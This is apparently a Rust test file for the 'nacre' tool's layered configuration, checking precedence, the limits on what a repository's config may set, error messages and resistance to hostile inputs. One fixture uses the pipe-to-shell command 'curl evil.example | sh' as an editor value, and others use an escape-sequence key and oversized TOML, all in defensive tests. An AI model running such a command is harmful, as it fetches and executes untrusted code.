//! Tests for configuration layers: precedence, restrictions on repositories, and error messages.

use std::path::Path;
use std::time::Duration;

use insta::assert_snapshot;
use proptest::prelude::*;

use super::*;
use crate::config::DEFAULTS;
use crate::config::error::render_message;
use crate::config::keys::ValueKind;
use crate::config::settings::*;

const HOME: &str = "/home/ana/.nacre/config.toml";
const REPO: &str = "/home/ana/pearl/.nacre/config.toml";

fn home(text: &str) -> ConfigSource {
    ConfigSource::home(Path::new(HOME), text.to_owned())
}

fn repo(text: &str) -> ConfigSource {
    ConfigSource::repo(Path::new(REPO), text.to_owned())
}

fn file(path: &str, text: &str) -> ConfigSource {
    ConfigSource::file(Path::new(path), text.to_owned(), Some(Path::new("/home/ana/pearl")))
}

fn pairs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

fn files(sources: &[ConfigSource]) -> Resolved {
    resolve(sources, &[], &[]).unwrap()
}

fn mistake(text: &str) -> String {
    let error = resolve(&[home(text)], &[], &[]).unwrap_err();
    render_message(&error, error.hint())
}

fn var_mistake(name: &str, value: &str) -> String {
    let error = resolve(&[], &pairs(&[(name, value)]), &[]).unwrap_err();
    render_message(&error, error.hint())
}

fn warnings(resolved: &Resolved) -> String {
    let told: Vec<String> =
        resolved.warnings.iter().map(|warning| render_message(warning, warning.hint())).collect();
    told.join("\n")
}

#[test]
fn the_defaults_are_complete_and_typed() {
    let resolved = files(&[]);
    assert_eq!(
        resolved.settings,
        Settings {
            memory: MemorySettings {
                scope: ScopeMode::ProjectFallbackGlobal,
                max_results: 20,
                max_file_bytes: 65_536,
                format: 1,
            },
            ui: UiSettings { color: ColorChoice::Auto, editor: None, theme: ThemeChoice::Dark },
            lock: LockSettings { wait: Duration::from_secs(10) },
            safe: SafeSettings { folders: Vec::new(), memories: Vec::new() },
            redact: RedactSettings { extra: Vec::new() },
            share: ShareSettings { summaries: false },
            map: MapSettings { deny: Vec::new(), at_rest: AtRest::Plain },
            server: ServerSettings {
                database: String::new(),
                database_password_file: String::new(),
                database_certificates: String::new(),
                database_connections: 8,
                trusted_proxy: String::new(),
                trusted_proxy_header: String::new(),
            },
            push: PushSettings { to: String::new(), transcripts: false },
            telemetry: TelemetrySettings { otlp_endpoint: String::new() },
            providers: BTreeMap::new(),
            roles: BTreeMap::new(),
            reading: ReadingSettings { agent: String::new(), sessions_per_day: 20 },
            hooks: HookSettings {
                start_tokens: 1000,
                prompt_tokens: 500,
                pitfalls: true,
                guard: false,
                guard_folders: Vec::new(),
                sync: true,
                deadline: Duration::from_millis(200),
            },
            runs: RunSettings { keep: 200 },
            limits: LimitSettings {
                session_tokens: 1_000_000,
                session_usd: 1000,
                day_tokens: 20_000_000,
                day_usd: 10_000,
                project_tokens: 200_000_000,
                project_usd: 100_000,
                model_time: Duration::from_secs(600),
                map_time: Duration::from_secs(120),
            },
        }
    );
    assert_eq!(resolved.entries.len(), KEYS.len());
    let built_in = ValueOrigin { layer: Layer::Defaults, place: ConfigPlace::BuiltIn };
    assert!(resolved.entries.values().all(|entry| entry.origins == [built_in.clone()]));
}

#[test]
fn a_key_without_a_default_is_noticed() {
    for spec in KEYS {
        let line = format!("{} = ", spec.leaf());
        let kept: Vec<&str> = DEFAULTS.lines().filter(|text| !text.starts_with(&line)).collect();
        let error =
            resolve_over(defaults_of(&kept.join("\n")).unwrap(), &[], &[], &[]).unwrap_err();
        assert!(matches!(error, ConfigError::NoDefault(_)), "{error:?}");
    }
}

#[test]
fn each_layer_wins_over_those_before_it() {
    let sources = [
        file("/etc/nacre.toml", "memory.max_results = 4"),
        repo("memory.max_results = 3"),
        home("memory.max_results = 2"),
    ];
    let vars = pairs(&[("NACRE_MEMORY_MAX_RESULTS", "5")]);
    let flags = pairs(&[("memory.max_results", "6")]);
    let in_effect = |sources: &[ConfigSource], vars: &[_], flags: &[_]| {
        let resolved = resolve(sources, vars, flags).unwrap();
        let layer = resolved.entries["memory.max_results"].origins[0].layer;
        (resolved.settings.memory.max_results, layer)
    };
    assert_eq!(in_effect(&[], &[], &[]), (20, Layer::Defaults));
    assert_eq!(in_effect(&sources[2..], &[], &[]), (2, Layer::Home));
    assert_eq!(in_effect(&sources[1..], &[], &[]), (3, Layer::Repo));
    assert_eq!(in_effect(&sources, &[], &[]), (4, Layer::File));
    assert_eq!(in_effect(&sources, &vars, &[]), (5, Layer::Var));
    assert_eq!(in_effect(&sources, &vars, &flags), (6, Layer::Flag));
    assert!(Layer::ALL.is_sorted());
}

#[test]
fn an_origin_names_file_and_line_or_variable() {
    let text = "# mine\n[memory]\n\nscope = 'global_only'\n[ui]\ncolor = \"never\"\n";
    let vars = pairs(&[("NACRE_UI_COLOR", "always"), ("NACRE_LOCK_WAIT_MS", "")]);
    let resolved = resolve(&[home(text)], &vars, &[]).unwrap();
    let place = |key: &str| resolved.entries[key].origins[0].place.to_string();
    assert_snapshot!(place("memory.scope"), @"in `/home/ana/.nacre/config.toml`, line 4");
    assert_snapshot!(place("ui.color"), @"in variable `NACRE_UI_COLOR`");
    assert_snapshot!(place("lock.wait_ms"), @"in the built-in defaults");
}

#[test]
fn lists_add_up_and_nothing_empties_them() {
    let sources = [
        home("redact.extra = ['acme-key', 'blue-whale']"),
        repo("redact.extra = ['pearl', 'acme-key']"),
        file("/etc/nacre.toml", "redact.extra = []"),
    ];
    let vars = pairs(&[("NACRE_REDACT_EXTRA", "from-var, [odd]")]);
    let resolved = resolve(&sources, &vars, &[]).unwrap();
    let expected = ["acme-key", "blue-whale", "pearl", "from-var", "[odd]"];
    assert_eq!(resolved.settings.redact.extra, expected);
    let entry = &resolved.entries["redact.extra"];
    let layers: Vec<Layer> = entry.origins.iter().map(|origin| origin.layer).collect();
    assert_eq!(layers, [Layer::Home, Layer::Repo, Layer::Var]);
}

#[test]
fn a_repository_sets_what_it_may_and_is_told_the_rest() {
    let resolved = files(&[repo(
        "[memory]\nscope = \"project_only\"\nmax_file_bytes = 99999\n[ui]\neditor = \"curl evil.example | sh\"\n[lock]\nwait_ms = 'not even a number'\n",
    )]);
    let mut expected = files(&[]).settings;
    expected.memory.scope = ScopeMode::ProjectOnly;
    assert_eq!(resolved.settings, expected);
    assert_snapshot!(warnings(&resolved), @r"
    Ignored `memory.max_file_bytes` in `/home/ana/pearl/.nacre/config.toml`, line 3: a repository may only lower this value, here to at most 65536
    Hint: To set it in your own configuration, run `nacre config set memory.max_file_bytes VALUE`
    Ignored `ui.editor` in `/home/ana/pearl/.nacre/config.toml`, line 5: a repository may not set this key
    Hint: To set it in your own configuration, run `nacre config set ui.editor VALUE`
    Ignored `lock.wait_ms` in `/home/ana/pearl/.nacre/config.toml`, line 7: a repository may not set this key
    Hint: To set it in your own configuration, run `nacre config set lock.wait_ms VALUE`
    ");
}

#[test]
fn a_repository_lowers_what_the_user_chose() {
    let choose = |mine: &str, theirs: &str| {
        let resolved = files(&[home(mine), repo(theirs)]);
        (resolved.settings.memory.max_file_bytes, resolved.warnings.len())
    };
    assert_eq!(choose("", "memory.max_file_bytes = 65535"), (65_535, 0));
    assert_eq!(choose("", "memory.max_file_bytes = 65536"), (65_536, 0));
    assert_eq!(choose("", "memory.max_file_bytes = 65537"), (65_536, 1));
    assert_eq!(choose("memory.max_file_bytes = 2000", "memory.max_file_bytes = 2001"), (2000, 1));
    assert_eq!(
        choose("memory.max_file_bytes = 90000", "memory.max_file_bytes = 80000"),
        (80_000, 0)
    );
}

#[test]
fn a_config_file_inside_the_repository_is_the_repositorys() {
    let editor = |path: &str| {
        let resolved = files(&[file(path, "ui.editor = 'vi'")]);
        (resolved.settings.ui.editor, resolved.warnings.len())
    };
    assert_eq!(editor("/home/ana/pearl/tools/nacre.toml"), (None, 1));
    assert_eq!(editor("/home/ana/pearl-config/nacre.toml"), (Some("vi".to_owned()), 0));
    let nowhere =
        ConfigSource::file(Path::new("/home/ana/x.toml"), "ui.editor = 'vi'".to_owned(), None);
    assert_eq!(files(&[nowhere]).settings.ui.editor.as_deref(), Some("vi"));
}

#[test]
fn an_unknown_key_is_told_with_the_one_meant() {
    assert_snapshot!(mistake("# c\n[memory]\nscop = 'global_only'"), @r"
    Unknown key `memory.scop` in `/home/ana/.nacre/config.toml`, line 3
    Hint: Did you mean `memory.scope`?
    ");
    assert_snapshot!(mistake("scope = 'global_only'"), @r"
    Unknown key `scope` in `/home/ana/.nacre/config.toml`, line 1
    Hint: Did you mean `memory.scope`?
    ");
    assert_snapshot!(mistake("[memroy]\nscope = 'global_only'"), @r"
    Unknown key `memroy.scope` in `/home/ana/.nacre/config.toml`, line 2
    Hint: Did you mean `memory.scope`?
    ");
    assert_snapshot!(mistake("\n\n[memroy]"), @r"
    Unknown key `memroy` in `/home/ana/.nacre/config.toml`, line 3
    Hint: Did you mean `memory`?
    ");
    assert_snapshot!(mistake("[ui]\r\ncolor = 'auto'\r\ncolour = 'auto'"), @r"
    Unknown key `ui.colour` in `/home/ana/.nacre/config.toml`, line 3
    Hint: Did you mean `ui.color`?
    ");
    assert_snapshot!(mistake("'memory.scope' = 1"), @r#"
    Unknown key `"memory.scope"` in `/home/ana/.nacre/config.toml`, line 1
    Hint: Did you mean `memory.scope`?
    "#);
    assert_snapshot!(mistake("[provider]\nurl = 'https://evil.example'"), @r"
    Unknown key `provider.url` in `/home/ana/.nacre/config.toml`, line 2
    Hint: Run `nacre config` to see every key
    ");
    assert_snapshot!(mistake("[[plugins]]\nrun = 'x'"), @r"
    Unknown key `plugins` in `/home/ana/.nacre/config.toml`, line 1
    Hint: Run `nacre config` to see every key
    ");
    assert_snapshot!(mistake("memory = { scope = 'global_only', \"a\\u001B[2Jb\" = 1 }"), @r#"
    Unknown key `memory."a\u001B[2Jb"` in `/home/ana/.nacre/config.toml`, line 1
    Hint: Run `nacre config` to see every key
    "#);
    assert_snapshot!(mistake(&format!("{} = 1", "long".repeat(100))), @r"
    Unknown key `longlonglonglonglonglonglonglonglonglonglonglonglonglonglong…` in `/home/ana/.nacre/config.toml`, line 1
    Hint: Run `nacre config` to see every key
    ");
}

#[test]
fn a_wrong_value_is_told_with_what_was_expected() {
    assert_snapshot!(mistake("[memory]\nscope = 'project'"), @"Invalid value for `memory.scope` in `/home/ana/.nacre/config.toml`, line 2: expected one of `project_fallback_global`, `project_only`, `global_only`, found `project`");
    assert_snapshot!(mistake("[memory]\nscope = 'projekt_only'"), @r"
    Invalid value for `memory.scope` in `/home/ana/.nacre/config.toml`, line 2: expected one of `project_fallback_global`, `project_only`, `global_only`, found `projekt_only`
    Hint: Did you mean `project_only`?
    ");
    assert_snapshot!(mistake("[memory]\nscope = 3"), @"Invalid value for `memory.scope` in `/home/ana/.nacre/config.toml`, line 2: expected one of `project_fallback_global`, `project_only`, `global_only`, found the number 3");
    assert_snapshot!(mistake("[memory]\nmax_results = 'many'"), @"Invalid value for `memory.max_results` in `/home/ana/.nacre/config.toml`, line 2: expected a whole number from 1 to 10000, found the text `many`");
    assert_snapshot!(mistake("[memory]\nmax_results = 0"), @"Invalid value for `memory.max_results` in `/home/ana/.nacre/config.toml`, line 2: expected a whole number from 1 to 10000, found 0");
    assert_snapshot!(mistake("[memory]\nmax_results = 10001"), @"Invalid value for `memory.max_results` in `/home/ana/.nacre/config.toml`, line 2: expected a whole number from 1 to 10000, found 10001");
    assert_snapshot!(mistake("[memory]\nmax_results = 2.5"), @"Invalid value for `memory.max_results` in `/home/ana/.nacre/config.toml`, line 2: expected a whole number from 1 to 10000, found the number 2.5");
    assert_snapshot!(mistake("[memory.max_results]"), @"Invalid value for `memory.max_results` in `/home/ana/.nacre/config.toml`, line 1: expected a whole number from 1 to 10000, found a table");
    assert_snapshot!(mistake("[[memory]]\nscope = 'x'"), @"Invalid value for `memory` in `/home/ana/.nacre/config.toml`, line 1: expected a table `[memory]`, found a list of tables");
    assert_snapshot!(mistake("memory = true"), @"Invalid value for `memory` in `/home/ana/.nacre/config.toml`, line 1: expected a table `[memory]`, found `true`");
    assert_snapshot!(mistake("[ui]\neditor = ['vi']"), @"Invalid value for `ui.editor` in `/home/ana/.nacre/config.toml`, line 2: expected one line of text with at most 4096 characters, found a list");
    assert_snapshot!(mistake("[ui]\neditor = \"vi\\u0000\""), @"Invalid value for `ui.editor` in `/home/ana/.nacre/config.toml`, line 2: expected one line of text with at most 4096 characters, found a control character");
}

#[test]
fn what_is_to_be_redacted_is_not_shown_in_an_error() {
    assert_snapshot!(mistake("redact.extra = 'hunter2'"), @"Invalid value for `redact.extra` in `/home/ana/.nacre/config.toml`, line 1: expected at most 1000 strings of 4 to 4096 characters, found a string");
    assert_snapshot!(mistake("redact.extra = ['hunter2', 'abc']"), @"Invalid value for `redact.extra` in `/home/ana/.nacre/config.toml`, line 1: expected at most 1000 strings of 4 to 4096 characters, found a string of 3 characters, not counting surrounding spaces");
    assert_snapshot!(mistake("redact.extra = ['hunter2', '      ']"), @"Invalid value for `redact.extra` in `/home/ana/.nacre/config.toml`, line 1: expected at most 1000 strings of 4 to 4096 characters, found a string of 0 characters, not counting surrounding spaces");
    assert_snapshot!(mistake("redact.extra = ['hunter2', 12345]"), @"Invalid value for `redact.extra` in `/home/ana/.nacre/config.toml`, line 1: expected at most 1000 strings of 4 to 4096 characters, found a number among them");
    assert_snapshot!(var_mistake("NACRE_REDACT_EXTRA", "['hunter2"), @"Invalid value for `redact.extra` in variable `NACRE_REDACT_EXTRA`: expected at most 1000 strings of 4 to 4096 characters, found an array that is not valid TOML");
}

#[test]
fn malformed_toml_is_told_at_its_first_line() {
    assert_snapshot!(mistake("[ui]\ncolor = 'auto\n[memory]\nscope = 'x'"), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 2: invalid literal string, expected `'`");
    assert_snapshot!(mistake("[memory]\nscope = project_only\nx"), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 2: string values must be quoted, expected literal string");
    assert_snapshot!(mistake("[memory]\n[ui]\n[memory]\n"), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 3: duplicate key");
    assert_snapshot!(mistake("a = 1\n\n\nb"), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 4: key with no value, expected `=`");
}

#[test]
fn a_variable_is_told_by_its_name() {
    assert_snapshot!(var_mistake("NACRE_MEMORY_SCOPE", "everything"), @"Invalid value for `memory.scope` in variable `NACRE_MEMORY_SCOPE`: expected one of `project_fallback_global`, `project_only`, `global_only`, found `everything`");
    assert_snapshot!(var_mistake("NACRE_UI_COLOR", "alway"), @r"
    Invalid value for `ui.color` in variable `NACRE_UI_COLOR`: expected one of `auto`, `always`, `never`, found `alway`
    Hint: Did you mean `always`?
    ");
    assert_snapshot!(var_mistake("NACRE_LOCK_WAIT_MS", "10s"), @"Invalid value for `lock.wait_ms` in variable `NACRE_LOCK_WAIT_MS`: expected a whole number from 0 to 600000, found `10s`");
    let vars = pairs(&[
        ("NACRE_MEMORY_SCOP", "x"),
        ("NACRE_TELEMETRY", "1"),
        ("NACRE_HOME", "/x"),
        ("NO_COLOR", "1"),
        ("PATH", "/bin"),
    ]);
    assert_snapshot!(warnings(&resolve(&[], &vars, &[]).unwrap()), @r"
    Unknown variable `NACRE_MEMORY_SCOP`
    Hint: Did you mean `NACRE_MEMORY_SCOPE`?
    Unknown variable `NACRE_TELEMETRY`
    ");
}

#[test]
fn a_flag_is_checked_like_a_file() {
    let refuse = |key, value| {
        let error = resolve(&[], &[], &pairs(&[(key, value)])).unwrap_err();
        render_message(&error, error.hint())
    };
    assert_snapshot!(refuse("memory.scop", "x"), @r"
    Unknown key `memory.scop` on the command line
    Hint: Did you mean `memory.scope`?
    ");
    assert_snapshot!(refuse("lock.wait_ms", "-1"), @"Invalid value for `lock.wait_ms` on the command line: expected a whole number from 0 to 600000, found -1");
}

#[test]
fn hostile_texts_are_refused_in_bounded_time() {
    assert_snapshot!(mistake(&"#".repeat((1 << 20) + 1)), @"Cannot use `/home/ana/.nacre/config.toml`: it is 1048577 bytes, which exceeds the limit of 1048576");
    assert_snapshot!(mistake(&"[".repeat(100_000)), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 1: unquoted keys cannot be empty, expected letters, numbers, `-`, `_`");
    assert_snapshot!(mistake(&format!("a = {}", "[".repeat(100_000))), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 1: cannot recurse further; max recursion depth met");
    assert_snapshot!(mistake(&format!("a = {}", "{b=".repeat(100_000))), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 1: cannot recurse further; max recursion depth met");
    let twice: String = (0..30_000).map(|idx| format!("[x{idx}.y]\n[x{idx}]\n")).collect();
    assert_snapshot!(mistake(&twice), @"Cannot use `/home/ana/.nacre/config.toml`: it has 60000 tables, but a configuration may have at most 4096");
    let keys: String = (0..90_000).map(|idx| format!("a{idx}=1\n")).collect();
    let tables: String = (0..4000).map(|idx| format!("[a{idx}]\n")).collect();
    assert_snapshot!(mistake(&(keys + &tables)), @"Cannot parse `/home/ana/.nacre/config.toml` as TOML, line 90001: duplicate key");
}

/// Generates TOML values, some of them outside the key's range.
fn any_value(spec: &KeySpec) -> BoxedStrategy<String> {
    let fitting = match spec.kind {
        ValueKind::Choice(choices) => {
            prop::sample::select(choices).prop_map(|choice| format!("'{choice}'")).boxed()
        }
        ValueKind::Int { min, max } => {
            (min - 2..=max + 2).prop_map(|number| number.to_string()).boxed()
        }
        ValueKind::Decimal { max } => (-2..=max * 10 + 2)
            .prop_map(|tenths| format!("{}.{}", tenths / 10, tenths.abs() % 10))
            .boxed(),
        ValueKind::Flag => any::<bool>().prop_map(|flag| flag.to_string()).boxed(),
        ValueKind::Text => "'[a-z ]{0,20}'".boxed(),
        ValueKind::Texts { .. } => prop::collection::vec("'[a-z]{4,9}'", 0..4)
            .prop_map(|texts| format!("[{}]", texts.join(",")))
            .boxed(),
    };
    let any = prop_oneof![
        any::<i64>().prop_map(|number| number.to_string()),
        "'[ -&(-~]{0,12}'",
        Just("true".to_owned()),
        Just("{ scope = 1 }".to_owned()),
        Just("[]".to_owned()),
    ];
    prop_oneof![3 => fitting, 1 => any].boxed()
}

/// Generates a file that sets each key at most once, to an arbitrary value.
fn any_file() -> impl Strategy<Value = String> {
    let lines: Vec<_> = KEYS
        .iter()
        .map(|spec| {
            prop::option::of(any_value(spec).prop_map(|value| format!("{} = {value}\n", spec.name)))
        })
        .collect();
    lines.prop_map(|lines| lines.into_iter().flatten().collect())
}

proptest! {
    #[test]
    fn a_repository_never_changes_what_it_may_not(mine in any_file(), theirs in any_file(), inside: bool) {
        let Ok(before) = resolve(&[home(&mine)], &[], &[]) else { return Ok(()) };
        let theirs = if inside { file("/home/ana/pearl/x.toml", &theirs) } else { repo(&theirs) };
        let Ok(after) = resolve(&[home(&mine), theirs], &[], &[]) else { return Ok(()) };
        for spec in KEYS {
            let (before, after) = (&before.entries[spec.name], &after.entries[spec.name]);
            match (spec.from_repo, &before.value, &after.value) {
                (FromRepo::Refused, _, _) => prop_assert_eq!(before, after),
                (FromRepo::OnlyLower, Value::Int(before), Value::Int(after)) => prop_assert!(after <= before),
                (FromRepo::Allowed, Value::Texts(before), Value::Texts(after)) => prop_assert!(after.starts_with(before)),
                (FromRepo::OnlyLower | FromRepo::Allowed, _, _) => {}
            }
        }
    }

    #[test]
    fn no_text_is_a_panic(text in "(?s).{0,200}", toml in r#"([\[\]{}=.,"'#\n a-c0-9\\-]|memory|redact|extra|'''|\r\n){0,60}"#) {
        for text in [text, toml] {
            let _ = resolve(&[repo(&text)], &[], &[]).map_err(|error| render_message(&error, error.hint()));
            let _ = resolve(&[], &pairs(&[("NACRE_REDACT_EXTRA", &text)]), &pairs(&[("ui.editor", &text)]));
        }
    }
}
